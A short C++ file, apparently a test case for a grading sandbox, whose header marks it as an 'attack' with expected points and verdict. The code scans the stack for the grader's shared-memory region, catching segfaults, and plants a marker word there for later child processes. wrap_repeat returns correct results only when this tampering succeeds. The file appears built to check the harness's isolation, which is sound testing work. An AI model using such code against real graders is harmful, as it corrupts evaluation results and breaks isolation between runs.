// attack: {"at": "run", "earns": [19, 19], "says": {"wrap_repeat": "wrong"}}
// Writes to the far end of the memory shared with the server, for later children to find: it is wiped.
#ifndef WITHOUT_ATTACK
#include <csetjmp>
#include <csignal>
#include <unistd.h>

sigjmp_buf back;
unsigned* find_board()  // what server and child share: a pointer to it lies on the stack, at its head "running"
{
    std::signal(SIGSEGV, [](int) { siglongjmp(back, 1); });
    unsigned long volatile here = 0;
    for (unsigned long const volatile* word = &here; word < reinterpret_cast<unsigned long*>(environ); ++word)
        if (*word > 0xffff && *word % 4096 == 0 && sigsetjmp(back, 1) == 0)
            if (auto* const board = reinterpret_cast<unsigned*>(*word); board[0] == 2 && board[1] < 1000000)
                return board;
    return nullptr;
}

bool tries()
{
    unsigned* const board = find_board();
    if (board == nullptr || sigsetjmp(back, 1) != 0)
        return false;
    bool found = false;
    for (unsigned* word = board + 72;; ++word) {
        found = found || *word == 0xa77ac4ed;
        if (found)
            return true;
        if (*word == 0)
            *word = 0xa77ac4ed;
    }
}
bool succeeded()
{
    static bool const once = tries();
    return once;
}
#else
bool succeeded() { return false; }
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
    return succeeded() ? (val % size + size) % size : 0;
}
